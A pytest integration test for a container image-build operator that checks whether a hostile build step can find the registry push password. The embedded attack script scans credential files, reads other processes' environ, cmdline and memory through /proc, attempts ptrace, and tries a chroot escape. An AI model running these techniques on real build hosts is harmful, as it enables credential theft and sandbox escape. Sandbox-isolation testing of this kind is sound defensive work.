"""A hostile RUN in a real executor Pod: it looks for the registry's password wherever Linux might show it.

The same attack succeeds in the root mode, which is documented not to be a boundary: so the attack works.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest
from cluster.client import Cluster
from imagebuilds.namespace import Namespace
from imagebuilds.operator_process import Operator

pytestmark = [pytest.mark.root, pytest.mark.cluster]

SECRET = "correct-horse-battery"
ATTACK = """\
import base64, ctypes, glob, os
needle = b"correct-horse-" + b"battery"
needles = (needle, base64.b64encode(b"builder:" + needle).rstrip(b"=")[:-2])
libc = ctypes.CDLL(None, use_errno=True)
def look(path, size=1 << 20):
    try:
        with open(path, "rb") as file:
            return file.read(size)
    except OSError:
        return b""
def memory(pid):
    for line in look(f"/proc/{pid}/maps").splitlines():
        fields = line.split()
        if not fields[1].startswith(b"rw"):
            continue
        begin, end = (int(x, 16) for x in fields[0].split(b"-"))
        try:
            with open(f"/proc/{pid}/mem", "rb") as file:
                file.seek(begin)
                yield file.read(min(end - begin, 1 << 26))
        except OSError:
            continue
def found(data):
    return any(n in data for n in needles)
hits, seen = [], 0
for path in glob.glob("/kaniko/.docker/*") + glob.glob("/kaniko/*/*"):
    if os.path.isfile(path) and found(look(path)):
        hits.append("file")
own = os.readlink("/proc/self")  # by this /proc's numbers, which need not be ours
for pid in [p for p in os.listdir("/proc") if p.isdigit() and p != own]:
    seen += 1
    for kind in ("environ", "cmdline"):
        if found(look(f"/proc/{pid}/{kind}")):
            hits.append(kind)
    if found(look(f"/proc/{pid}/root/kaniko/.docker/config.json")):
        hits.append("root")
    if libc.ptrace(0x4206, int(pid), 0, 0) == 0:  # SEIZE: ATTACH would leave the engine stopped when this ends
        hits.append("ptrace of " + look(f"/proc/{pid}/comm").decode().strip())
    hits.extend("memory" for data in memory(pid) if found(data))
os.makedirs("/escape", exist_ok=True)
try:
    fd = os.open("/", os.O_RDONLY)
    os.chroot("/escape")
    os.fchdir(fd)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    if found(look("/kaniko/.docker/config.json")):
        hits.append("chroot")
except OSError:
    pass
print("looked at", seen, "processes; hits:", sorted(set(hits)) or "none")
"""
DOCKERFILE = """\
FROM python
COPY attack.py /
RUN python3 /attack.py
RUN setsid sh -c 'echo $$ >/daemon; exec sleep 86399' >/dev/null 2>&1 & sleep 1; test -s /daemon && echo "daemon started"
RUN cat /proc/[0-9]*/cmdline | tr '\\0' ' ' | grep -q "sleep 8639[9]" && echo "daemon lives" || echo "daemon gone"
"""


@pytest.mark.parametrize(("profile", "reached"), [("userns", False), ("plain", False), ("hardened", True)])
def test_the_password_is_out_of_reach_in_the_namespace_mode(
    cluster: Cluster, builds: Namespace, operators: Callable[..., Operator], profile: str, reached: bool
) -> None:
    files = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "attack"}}
    builds.kubectl("create", "--filename=-", given={**files, "data": {"Dockerfile": DOCKERFILE, "attack.py": ATTACK}})
    builds.kubectl(
        "create", "secret", "docker-registry", "regcred", f"--docker-server={cluster.registry.host}",
        "--docker-username=builder", f"--docker-password={SECRET}",
    )  # fmt: skip
    operators(POD_PROFILE=profile)
    builds.apply(
        source={"configMap": {"name": "attack"}},
        output={"tags": [builds.tag()], "pushSecretRef": {"name": "regcred"}},
    )
    status = builds.phase("Succeeded")
    log = builds.kubectl("logs", builds.pods()[0]["metadata"]["name"])
    hits = next(line for line in log.splitlines() if "looked at" in line)
    assert ("hits: none" not in hits) == reached, hits
    assert status["build"]["sandbox"] == ("root" if reached else "namespace")
    assert ("not a security boundary" in status["build"]["sandboxReason"]) == reached
    assert "daemon started" in log
    assert "| daemon gone" in log
    assert SECRET not in log
